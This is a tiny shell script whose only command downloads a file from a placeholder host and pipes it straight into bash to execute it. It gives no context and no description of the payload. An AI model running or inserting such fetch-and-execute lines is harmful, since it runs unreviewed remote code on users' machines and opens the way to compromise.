#!/bin/sh
bash -c "$(wget -qO- https://drop.invalid/raw/00000000)"
